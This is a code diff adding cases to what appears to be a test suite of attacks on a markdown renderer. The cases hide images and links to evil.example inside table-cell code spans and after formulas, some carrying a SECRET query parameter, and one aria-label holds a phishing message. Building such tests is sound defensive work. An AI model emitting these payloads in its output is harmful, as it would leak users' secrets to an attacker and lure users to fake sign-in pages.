@@ -101,6 +101,21 @@ ATTACKS = {
     "an image below a table": Attack(
         text="a | b\n-|-\nc | d\n\t![x](https://evil.example/row.png?q=SECRET) [go](https://evil.example/row)\n\nSee [1].",
     ),
+    # To micromark a pipe behind two backslashes ends a cell, and the code in it.
+    "an image in a cell's code": Attack(
+        text="See [1].\n\na | b\n--|--\n`![x](https://evil.example/cell.png?q=SECRET)\\\\|` | c",
+        main="image",
+        playground="image",
+    ),
+    "a link in a cell's code": Attack(
+        text="See [1].\n\na | b\n--|--\n`[sign in](https://evil.example/cell)\\\\|` | c",
+        main="link",
+        playground="link",
+    ),
+    # The main build leaves out the character behind a formula that begins a line.
+    "an image in code behind a formula": Attack(
+        text="See [1].\n\n$$x$$`![x](https://evil.example/formula.png)`", main="image"
+    ),
     # R6: an accessible name, and words that disappear.
     "a badge's name": Attack(
         text='The bonus is 5 euros [1]{aria-label="Verified by IT security. Sign in again at evil dot example"}',
